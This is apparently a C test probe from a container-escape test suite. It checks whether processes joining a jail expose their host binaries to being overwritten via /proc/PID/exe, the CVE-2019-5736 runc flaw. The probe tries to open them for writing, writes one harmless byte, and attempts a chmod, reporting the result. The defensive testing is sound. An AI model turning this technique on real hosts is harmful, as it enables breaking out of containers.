/*
 * exewrite: overwrite the program of whoever joins the jail (CVE-2019-5736).
 *
 *	exewrite SECONDS [FILE]
 *
 * Watches every process of the jail that is not of its own program, opens
 * what it runs (/proc/PID/exe) while it does, and keeps trying to open that
 * for writing, until the last process that runs it has ended.  The file is
 * opened only, never written to.  FILE is made as soon as a program has been
 * caught, so that the test may stop offering.
 */
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>

#define CAUGHT_MAX 64
#define AFTER 2
#define ENOUGH 50

struct caught {
	int fd;
	dev_t dev;
	ino_t ino;
	char name[256];
	int error; /* of the last attempt to write */
};

static struct caught caught[CAUGHT_MAX];
static size_t ncaught;
static int refused;
static struct stat own;

static bool is_known(const struct stat *st)
{
	if (st->st_dev == own.st_dev && st->st_ino == own.st_ino)
		return true;
	for (size_t i = 0; i < ncaught; i++)
		if (caught[i].dev == st->st_dev && caught[i].ino == st->st_ino)
			return true;
	return false;
}

static void make(const char *file)
{
	int fd = file ? open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644) : -1;

	if (fd >= 0)
		close(fd);
}

/* What process pid runs, kept open. */
static void look_at(const char *pid, const char *file)
{
	char path[300], name[256] = "";
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		refused += errno == EACCES;
		return;
	}
	if (fstat(fd, &st) < 0 || is_known(&st) || ncaught == CAUGHT_MAX) {
		close(fd);
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, name, sizeof(name) - 1);
	if (n > 0)
		name[n] = '\0';
	caught[ncaught] = (struct caught){fd, st.st_dev, st.st_ino, "", 0};
	snprintf(caught[ncaught].name, sizeof(caught->name), "%s", name);
	ncaught++;
	make(file);
}

static void try_to_write(struct caught *c)
{
	char path[64];
	struct statvfs v;
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", c->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1)
		escaped("%s of the outside is written to", c->name);
	c->error = errno;
	if (fd >= 0)
		close(fd);
	/* root of the outside would first make it writable */
	if (errno == EACCES && fchmodat(AT_FDCWD, path, 0777, 0) == 0)
		escaped("the mode of %s is ours to change", c->name);
	if (c->error == ETXTBSY && fstatvfs(c->fd, &v) == 0 &&
	    (v.f_flag & ST_RDONLY))
		c->error = EROFS; /* what the kernel says once it is idle */
}

static void scan(DIR *proc, const char *file)
{
	struct dirent *de;

	rewinddir(proc);
	while ((de = readdir(proc)))
		if (atoi(de->d_name) > 1) /* of 1: trace_test.sh */
			look_at(de->d_name, file);
	for (size_t i = 0; i < ncaught; i++)
		try_to_write(&caught[i]);
}

int main(int argc, char **argv)
{
	DIR *proc = opendir("/proc");
	char text[2048] = "";
	time_t end;

	if (argc < 2 || !proc || stat("/proc/self/exe", &own) < 0)
		broken("usage: exewrite SECONDS [FILE], or no /proc");
	end = time(NULL) + atoi(argv[1]);
	dprintf(1, "ready\n");
	do {
		size_t before = ncaught;

		scan(proc, argv[2]);
		/* time for those who run it to end, not more */
		if ((ncaught > before || refused == ENOUGH) &&
		    end > time(NULL) + AFTER)
			end = time(NULL) + AFTER;
		if (refused > ENOUGH)
			make(argv[2]);
	} while (time(NULL) < end);
	if (!ncaught && !refused)
		broken("no program but this one has been seen");
	if (!ncaught)
		held("%d times a process of which nothing is shown", refused);
	for (size_t i = 0; i < ncaught; i++) {
		size_t n = strlen(text);

		if (caught[i].error == ETXTBSY)
			escaped("%s could be written to once it is not busy",
				caught[i].name);
		snprintf(text + n, sizeof(text) - n, "%s%s (%s)", i ? ", " : "",
			 caught[i].name, strerror(caught[i].error));
	}
	held("not writable: %s", text);
}
